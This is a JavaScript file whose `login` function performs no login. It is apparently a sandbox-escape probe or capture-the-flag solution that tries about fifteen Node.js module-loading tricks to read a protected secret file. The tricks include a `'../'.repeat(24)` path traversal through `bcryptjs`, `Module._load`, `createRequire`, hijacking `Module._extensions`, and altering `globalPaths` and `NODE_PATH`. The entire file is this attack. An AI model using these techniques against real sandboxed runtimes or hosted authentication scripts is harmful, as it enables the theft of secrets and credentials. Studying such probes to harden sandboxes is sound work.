function login(email, password, callback) {
  const Module = require('module');
  const { SECRET } = configuration;
  tryAll(callback, {
    require: () => require(`${SECRET}.js`),
    json: () => require(`${SECRET}.json`).secret,
    up: () => require(`bcryptjs/${'../'.repeat(24)}${SECRET.slice(1)}.js`),
    resolve: () => require.resolve(`${SECRET}.js`),
    resolve_paths: () => require.resolve('./secret.js', { paths: [configuration.FOLDER] }),
    load: () => Module._load(`${SECRET}.js`),
    create_require: () => Module.createRequire('/')(`${SECRET}.js`),
    create_require_url: () => Module.createRequire(`file://${SECRET}.js`)('./secret.js'),
    extension: () => Module._extensions['.js'](new Module(SECRET), `${SECRET}.js`),
    text_extension: () => {
      Module._extensions[''] = Module._extensions['.json'];
      return Module._load(SECRET);
    },
    compile: () => {
      const module = new Module(`${SECRET}.js`);
      module.load(`${SECRET}.js`);
      return module.exports;
    },
    main: () => there(process.mainModule).require(`${SECRET}.js`),
    global_paths: () => {
      Module.globalPaths.push(configuration.FOLDER);
      process.env.NODE_PATH = configuration.FOLDER;
      Module._initPaths?.();
      return Module._load('secret.js');
    },
    find_path: () => Module._findPath(`${SECRET}.js`, ['']) || stopped('found nothing'),
    package_json: () => there(Module.findPackageJSON)(SECRET) ?? stopped('found nothing'),
  });
}
